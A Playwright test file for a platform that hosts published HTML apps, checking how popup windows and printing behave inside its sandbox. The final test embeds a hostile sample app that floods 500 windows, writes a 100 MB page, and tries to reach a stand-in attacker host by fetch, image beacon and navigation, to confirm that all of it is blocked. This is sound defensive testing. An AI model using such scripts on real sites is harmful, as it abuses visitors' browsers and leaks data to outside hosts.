/** Tests windows that an app opens and writes, such as receipts and print views, and tests printing. */
import { writeFileSync } from 'node:fs';
import { pathToFileURL } from 'node:url';
import { listenOnLoopback } from '@buidl/local-cloud/wire/listen-on-loopback';
import { type BrowserContext, expect, type FrameLocator, type Page } from '@playwright/test';
import { embedSnippet } from '../../../shared/domain/embed-snippet.ts';
import { exportDocument } from '../../../shared/domain/export-document.ts';
import { publishDocument } from '../../fixtures/published-app.ts';
import { type ApiUser, signUpUser } from '../../integration/api-user.ts';
import { test } from '../buidl-test.ts';
import { openApp } from './published-apps.ts';

let owner: ApiUser;

test.beforeAll(async ({ cloud }) => {
  owner = await signUpUser(cloud.api, 'windowed');
});

const withScript = (body: string, script: string) =>
  `<!doctype html><html lang="en"><title>Shop</title>${body}<p role="status"></p><script>
    const out = (text) => { document.querySelector('[role=status]').textContent = text; };
    const on = (id, run) => document.getElementById(id).addEventListener('click', run);
    ${script}
  </script></html>`;

const RECEIPT = `<!doctype html><html><head><title>Receipt 7</title><style>body { color: rgb(0, 128, 0) } h1 { margin: 0 }</style></head>
  <body class="paper"><h1>Receipt</h1><p id="total">12 CHF</p><p id="ran"></p><div style="height:3000px"></div>
  <script>document.getElementById('ran').textContent = 'ran for ' + typeof localStorage.length;<\\/script></body></html>`;

/** An app with the code from tutorials that opens windows. Each button fills or closes a window in another way. */
const SHOP = withScript(
  '<h1>Shop</h1><button id="receipt">Receipt</button><button id="view">View</button><button id="built">Built</button><button id="blob">Blob</button>' +
    '<button id="picture">Picture</button><button id="self">Self</button><button id="page">Page</button>',
  `const receipt = \`${RECEIPT}\`;
   let shown;
   on('receipt', () => {
     const w = window.open('', '_blank');
     w.document.write(receipt);
     w.document.close();
     w.focus();
     w.print();
     w.close();
   });
   on('view', () => {
     shown = window.open('', '_blank', 'width=600,height=400');
     shown.document.write(receipt);
     shown.document.close();
     shown.onload = () => out('loaded ' + shown.closed);
     const timer = setInterval(() => { if (shown.closed) { out('closed'); clearInterval(timer); } }, 50);
   });
   on('built', () => {
     const w = open();
     w.document.title = 'Built';
     const heading = w.document.createElement('h1');
     w.document.body.appendChild(heading).textContent = 'Loading';
     setTimeout(() => { heading.textContent = 'Made by hand'; }, 300);
   });
   on('blob', () => { window.open(URL.createObjectURL(new Blob(['<h1>From a file</h1>'], { type: 'text/html' }))); });
   on('picture', () => {
     const canvas = Object.assign(document.createElement('canvas'), { width: 30, height: 20 });
     window.open().location.href = canvas.toDataURL();
   });
   on('self', () => {
     const w = window.open('');
     w.document.write('<h1>Once</h1><button onclick="window.print()">Print me</button><button onclick="window.close()">Leave</button>');
     w.document.close();
   });
   on('page', () => print());`,
);

/** Replaces the browser's print dialog. Records the heights of the app and of its window at each print. */
async function recordPrinting(context: BrowserContext): Promise<void> {
  await context.addInitScript(() => {
    window.print = () => {
      const printed = Reflect.get(window, 'printed') ?? [];
      const boxes = [...document.querySelectorAll<HTMLElement>('.app-box, .app-window-page')];
      const heights = boxes.map((box) => Number.parseInt(box.style.height, 10));
      Reflect.set(window, 'printed', [...printed, heights]);
      window.dispatchEvent(new Event('afterprint'));
    };
  });
}

const printedIn = (page: Page | FrameLocator) =>
  page.locator('html').evaluate(() => Reflect.get(window, 'printed') ?? []);
const press = (app: FrameLocator | Page, name: string) => app.getByRole('button', { name, exact: true }).click();
const windowIn = (shell: Page | FrameLocator) => shell.locator('.app-window').frameLocator('iframe');

test('a receipt is written, printed at its full height and closed, and an app learns when its window closes', async ({
  page,
  context,
  cloud,
}) => {
  await recordPrinting(context);
  const { pageUrl } = await publishDocument(cloud, { ownerPublicKey: owner.publicKey, name: 'windows', html: SHOP });
  const requested: string[] = [];
  page.on('request', (request) => requested.push(new URL(request.url()).origin));
  await openApp(page, pageUrl);
  const app = page.frameLocator('.app-box iframe');
  const panel = page.getByRole('dialog');
  await press(app, 'Receipt');
  await expect.poll(() => printedIn(page)).toHaveLength(1);
  const [[, heightPx]] = await printedIn(page);
  expect(heightPx).toBeGreaterThan(3_000);
  await expect(panel).toHaveCount(0);

  await press(app, 'View');
  await expect(panel).toHaveAccessibleName('App windows: Receipt 7');
  const shown = windowIn(page);
  await expect(shown.getByRole('heading')).toHaveText('Receipt');
  await expect(shown.getByRole('heading')).toHaveCSS('color', 'rgb(0, 128, 0)');
  await expect(shown.locator('#ran')).toHaveText('ran for number');
  // The window does not contain the app's own document.
  await expect(shown.getByText('Shop')).toHaveCount(0);
  await expect(shown.locator('plaintext')).toHaveCount(0);
  await expect(app.getByRole('status')).toHaveText('loaded false');
  await page.emulateMedia({ media: 'print' });
  await expect(page.locator('.app-box')).toBeHidden();
  await expect(panel.getByRole('button', { name: 'Close' })).toBeHidden();
  await page.emulateMedia({ media: 'screen' });
  await panel.getByRole('button', { name: 'Print' }).click();
  await expect.poll(() => printedIn(page)).toHaveLength(2);
  await panel.getByRole('button', { name: 'Close' }).click();
  await expect(app.getByRole('status')).toHaveText('closed');
  expect([...new Set(requested)].filter((origin) => !origin.includes('localhost') && origin !== 'null')).toEqual([]);
});

test('windows from nodes, files and pictures show them, and follow changes', async ({ page, context, cloud }) => {
  await recordPrinting(context);
  const given = { ownerPublicKey: owner.publicKey, html: SHOP };
  const { pageUrl } = await publishDocument(cloud, { ...given, name: 'windows-more' });
  await openApp(page, pageUrl);
  const app = page.frameLocator('.app-box iframe');
  const [panel, shown] = [page.getByRole('dialog'), windowIn(page)];
  await press(app, 'Built');
  await expect(shown.getByRole('heading')).toHaveText('Made by hand');
  await expect(panel).toHaveAccessibleName('App windows-more: Built');
  await page.keyboard.press('Escape');
  await expect(panel).toHaveCount(0);
  await press(app, 'Blob');
  await expect(shown.getByRole('heading')).toHaveText('From a file');
  await panel.getByRole('button', { name: 'Close' }).click();
  await press(app, 'Picture');
  await expect.poll(() => shown.locator('img').evaluate((image) => Reflect.get(image, 'naturalWidth'))).toBe(30);
  await panel.getByRole('button', { name: 'Close' }).click();
  await press(app, 'Self');
  await press(shown, 'Print me');
  await expect.poll(() => printedIn(page)).toHaveLength(1);
  await press(shown, 'Leave');
  await expect(panel).toHaveCount(0);
});

test('an embedded app shows a window and prints, and so does an exported file', async ({
  page,
  context,
  cloud,
}, testInfo) => {
  await recordPrinting(context);
  const name = 'windows-embedded';
  await publishDocument(cloud, { ownerPublicKey: owner.publicKey, name, html: SHOP });
  const blog = await listenOnLoopback((_request, response) => {
    const snippet = embedSnippet({ siteUrl: cloud.siteUrl, name, title: 'Shop' });
    response.setHeader('content-type', 'text/html').end(`<!doctype html>${snippet}`);
  }, 0);
  try {
    await page.goto(`http://127.0.0.1:${blog.port}/`);
    const shell = page.frameLocator('iframe[title="Shop"]');
    const app = shell.frameLocator('.app-box iframe');
    await press(app, 'Receipt');
    await expect.poll(() => printedIn(shell)).toHaveLength(1);
    await press(app, 'View');
    await expect(windowIn(shell).getByRole('heading')).toHaveText('Receipt');
    await shell.getByRole('dialog').getByRole('button', { name: 'Close' }).click();
    await press(app, 'Page');
    await expect.poll(() => printedIn(shell)).toHaveLength(2);
  } finally {
    await blog.close();
  }
  const path = testInfo.outputPath('shop.html');
  writeFileSync(path, exportDocument({ html: SHOP, script: '' }));
  await page.goto(pathToFileURL(path).href);
  const opening = context.waitForEvent('page');
  await press(page, 'View');
  const shown = await opening;
  await expect(shown.getByRole('heading')).toHaveText('Receipt');
  await shown.close();
  await expect(page.getByRole('status')).toHaveText('closed');
  await press(page, 'Page');
  expect(await printedIn(page)).toHaveLength(1);
});

test('print() prints the app without the bar of its page, at its full height', async ({ page, context, cloud }) => {
  await recordPrinting(context);
  const html = withScript(
    '<button id="page">Page</button><div style="height:4000px"></div>',
    "on('page', () => print());",
  );
  const { pageUrl } = await publishDocument(cloud, { ownerPublicKey: owner.publicKey, name: 'windows-print', html });
  await openApp(page, pageUrl);
  await press(page.frameLocator('.app-box iframe'), 'Page');
  await expect.poll(() => printedIn(page)).toHaveLength(1);
  const [[heightPx]] = await printedIn(page);
  expect(heightPx).toBeGreaterThan(4_000);
  await page.emulateMedia({ media: 'print' });
  await expect(page.getByRole('button', { name: 'Report' })).toBeHidden();
});

test('an app opens no window by itself, few in a loop, none of a hundred megabytes, and reaches nobody from one', async ({
  page,
  context,
  cloud,
}) => {
  const html = withScript(
    '<button id="loop">Loop</button><button id="huge">Huge</button><button id="away">Away</button>',
    `out('at first ' + window.open(''));
     on('loop', () => {
       const all = Array.from({ length: 500 }, (_, index) => {
         const w = window.open('');
         w?.document.write('<h1>Window ' + index + '</h1>');
         return w ?? { closed: true };
       });
       setInterval(() => out('open ' + all.filter((w) => !w.closed).length), 50);
     });
     on('huge', () => {
       const w = window.open('');
       w.document.write('<h1>Huge</h1><p>' + 'x'.repeat(100_000_000));
       setInterval(() => out('huge ' + w.closed), 50);
     });
     on('away', () => {
       const w = window.open('');
       w.document.write('<h1>Away</h1><script>' +
         'const found = [top.length, typeof parent.document, window.opener];' +
         'fetch("https://evil.example/?a").catch(() => document.querySelector("h1").textContent = found.join());' +
         'new Image().src = "https://evil.example/?b";' +
         'setTimeout(() => { location.href = "https://evil.example/?c"; }, 500);<\\/script>');
     });`,
  );
  const requested: string[] = [];
  await context.route('https://evil.example/**', (route) => {
    requested.push(route.request().url());
    return route.fulfill({ body: 'Evil' });
  });
  const given = { ownerPublicKey: owner.publicKey, html };
  const { pageUrl } = await publishDocument(cloud, { ...given, name: 'windows-hostile' });
  await openApp(page, pageUrl);
  const app = page.frameLocator('.app-box iframe');
  const [panel, shown] = [page.getByRole('dialog'), windowIn(page)];
  await expect(app.getByRole('status')).toHaveText('at first null');
  await press(app, 'Loop');
  await expect(app.getByRole('status')).toHaveText('open 1');
  await expect(panel).toHaveCount(1);
  await panel.getByRole('button', { name: 'Close' }).click();
  await openApp(page, pageUrl);
  await press(app, 'Huge');
  await expect(page.getByRole('alertdialog')).toContainText('a page of more than 5 MB');
  await page.getByRole('button', { name: 'OK' }).click();
  await expect(app.getByRole('status')).toHaveText('huge true');
  await openApp(page, pageUrl);
  await press(app, 'Away');
  await expect(shown.getByRole('heading')).toHaveText('0,undefined,');
  // The panel of a window closes when the window navigates to another document.
  await expect(panel).toHaveCount(0);
  expect(requested).toEqual([]);
});
